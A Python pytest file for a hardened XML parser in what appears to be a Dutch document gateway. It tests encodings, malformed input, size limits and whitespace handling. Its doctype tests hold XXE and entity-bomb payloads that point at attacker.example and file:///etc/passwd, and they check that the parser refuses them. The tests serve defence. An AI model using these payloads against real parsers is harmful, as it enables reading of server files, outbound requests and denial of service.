"""The one XML door, and what does not get through it."""

import socket

import pytest

from gateway.domain.errors import Unreadable
from gateway.markup import parsing
from gateway.markup.parsing import parse

BSN = "999900006"


def refused(document):
    """The one finding with which the door refuses *document*."""
    with pytest.raises(Unreadable) as refusal:
        parse(document)
    (finding,) = refusal.value.findings
    return finding


@pytest.mark.parametrize("declaration", ["", '<?xml version="1.0"?>', "\ufeff"], ids=ascii)
def test_a_document(declaration):
    """A document in UTF-8 comes in, with a declaration or byte order mark or without."""
    assert parse(f"{declaration}<a>é</a>".encode()).text == "é"


@pytest.mark.parametrize("encoding", ["iso-8859-1", "windows-1252", "us-ascii", "ISO-8859-15"])
def test_encodings_that_are_read(encoding):
    """The encodings that Dutch systems write come in when the document says so."""
    text = f'<?xml version="1.0" encoding="{encoding}"?><a>Zoe</a>'

    assert parse(text.encode(encoding)).text == "Zoe"


@pytest.mark.parametrize(
    "encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037"]
)
def test_encodings_that_are_not(encoding):
    """Other encodings are refused: what scans bytes must see what the parser sees."""
    text = f'<?xml version="1.0" encoding="{encoding}"?><a>{BSN}</a>'

    assert refused(text.encode(encoding)).kind is parsing.NOT_UTF8


@pytest.mark.parametrize("spaces", [1, 200, 70_000])
def test_an_encoding_far_from_the_start(spaces):
    """An encoding is found however far from the start of its declaration it stands."""
    declaration = b'<?xml version="1.0"' + b" " * spaces + b'encoding="utf-7"?>'

    assert refused(declaration + b"<a>1+ADwAIQ----2</a>").kind is parsing.NOT_UTF8


@pytest.mark.parametrize("document", [b"", b" \r\n\t"])
def test_empty(document):
    """An empty file is called empty."""
    assert refused(document).kind is parsing.EMPTY


@pytest.mark.parametrize(
    "document", [b"%PDF-1.7 nine", b"PK\x03\x04zip", b"naam;bsn\n", b"\x89PNG\r\n", b"{}"]
)
def test_other_files(document):
    """A file of another kind is told to be no XML."""
    assert refused(document).kind is parsing.NOT_XML


@pytest.mark.parametrize(
    "document", [b"<a><b></a>", b"<a>", b"<a/><b/>", b"<a x=1/>", b"<a>&n;</a>"]
)
def test_broken(document):
    """Broken XML is told to be broken, with its line and without a word of it."""
    finding = refused(b"<z>\n" + document + BSN.encode())

    assert finding.kind is parsing.BROKEN_XML
    assert finding.line == 2
    assert BSN not in finding.message


class TestDoctype:
    """No document type declaration, so no entities."""

    @pytest.mark.parametrize(
        "doctype",
        [
            "<!DOCTYPE a>",
            '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">',
            '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
            '<!DOCTYPE a [<!ENTITY l "lol"><!ENTITY m "&l;&l;&l;&l;"><!ENTITY x "&m;&m;&m;">]>',
        ],
        ids=["bare", "external", "file", "parameter", "bomb"],
    )
    def test_refused(self, doctype):
        """A doctype is refused, whatever is in it."""
        assert refused(f"{doctype}<a>&x;</a>".encode()).kind is parsing.DOCTYPE

    def test_bomb_of_many_levels(self):
        """A billion laughs are not laughed."""
        levels = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
        bomb = f'<!DOCTYPE a [<!ENTITY e0 "ha">{levels}]><a>&e9;</a>'

        assert refused(bomb.encode()).kind is parsing.DOCTYPE

    def test_nothing_is_fetched(self, monkeypatch):
        """No socket is opened for anything that a document names."""
        monkeypatch.setattr(socket, "socket", pytest.fail)
        document = b"""<?xml-stylesheet href="http://attacker.example/x.xsl"?>
            <a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
               xmlns:xi="http://www.w3.org/2001/XInclude"
               xsi:schemaLocation="urn:a http://attacker.example/a.xsd">
               <xi:include href="file:///etc/passwd"/></a>"""

        root = parse(document)

        assert [child.text for child in root] == [None]


class TestSplitValues:
    """No comment or instruction where two readers would read two values."""

    @pytest.mark.parametrize("declaration", ["", '<?xml version="1.0"?>\n', "<?other x?>"])
    @pytest.mark.parametrize("node", ["<!--x-->", "<?x y?>", "<?x?>", "<!---->"])
    @pytest.mark.parametrize("value", ["9999{}00006", "{}999900006", "999900006{}"])
    def test_inside_a_value(self, declaration, node, value):
        """A comment or instruction in a value is refused, with its line and without the value."""
        finding = refused(f"{declaration}<a>\n<bsn>{value.format(node)}</bsn></a>".encode())

        assert finding.kind is parsing.SPLIT_VALUE
        assert "9999" not in finding.message

    @pytest.mark.parametrize("node", ["<!-- x -->", "<?x y?>"])
    def test_between_elements(self, node):
        """Between elements they do no harm, and are left out of the tree."""
        root = parse(f"{node}<a>{node}<b>1</b>{node}</a>{node}".encode())

        assert [element.tag for element in root.iter()] == ["a", "b"]
        assert root.getprevious() is None
        assert root.getnext() is None

    def test_markup_in_a_value_is_text(self):
        """What only looks like a comment is text: in a CDATA section or escaped."""
        assert parse(b"<a>1<![CDATA[<!--x-->]]>2&lt;!--y--></a>").text == "1<!--x-->2<!--y-->"


class TestLimits:
    """Limits that are met before memory is spent."""

    def test_bytes(self):
        """A document over the limit is refused without being parsed."""
        assert refused(b"<a>" + b" " * parsing.MAX_BYTES).kind is parsing.TOO_LARGE

    def test_elements(self):
        """A document with more elements than any dossier has is refused."""
        assert refused(b"<a>" + b"<b/>" * 600_000 + b"</a>").kind is parsing.TOO_MANY_ELEMENTS

    def test_depth(self):
        """A document nested deeper than any dossier is refused."""
        assert refused(b"<a>" * 5_000 + b"</a>" * 5_000).kind is parsing.TOO_DEEP

    def test_text(self):
        """A text longer than an attachment may be is refused."""
        assert refused(b"<a>" + b"x" * 10_100_000 + b"</a>").kind is parsing.TOO_LONG_A_TEXT

    def test_attachment_of_seven_megabytes(self):
        """An attachment of 7 MB, as base64, passes."""
        text = b"QUJD" * (7 * 1024 * 1024 // 3)

        assert len(parse(b"<a>" + text + b"</a>").text) == len(text)


class TestSpaceBetweenElements:
    """It may be left out of the tree, and never what belongs to a value."""

    def test_left_out(self):
        """Space between elements is no text of the tree where that need not stay indented."""
        root = parse(b"<a>\n  <b>x</b>\n  <c> </c>\n</a>", indented=False)

        assert (root.text, root[0].tail, root[1].text) == (None, None, " ")

    @pytest.mark.parametrize(
        "value",
        [
            *(" ", "\t\n", " x ", "\r\n \r\n", " \r\nx", "\n" * 700, " " * 300, " " * 301 + "x"),
            *(" <![CDATA[x]]> ", " <![CDATA[ ]]>", " &#32;", "&#13; ", " &amp; ", "\n&#10;\n"),
            *(" <!-- --> ", "<!-- --> ", " <?a?> "),
        ],
        ids=ascii,
    )
    def test_value_keeps_its_space(self, value):
        """Whatever a value is made of, it is the same text in both trees."""
        document = f"<a>\n  <b>{value}</b>\n  <b xml:space='preserve'> {value}</b>\n</a>".encode()

        kept, left_out = parse(document), parse(document, indented=False)

        assert [each.text for each in left_out] == [each.text for each in kept]

    def test_stays_for_who_signs(self):
        """Unless told otherwise the tree is the document to the last space."""
        assert parse(b"<a>\n  <b/>\n</a>").text == "\n  "
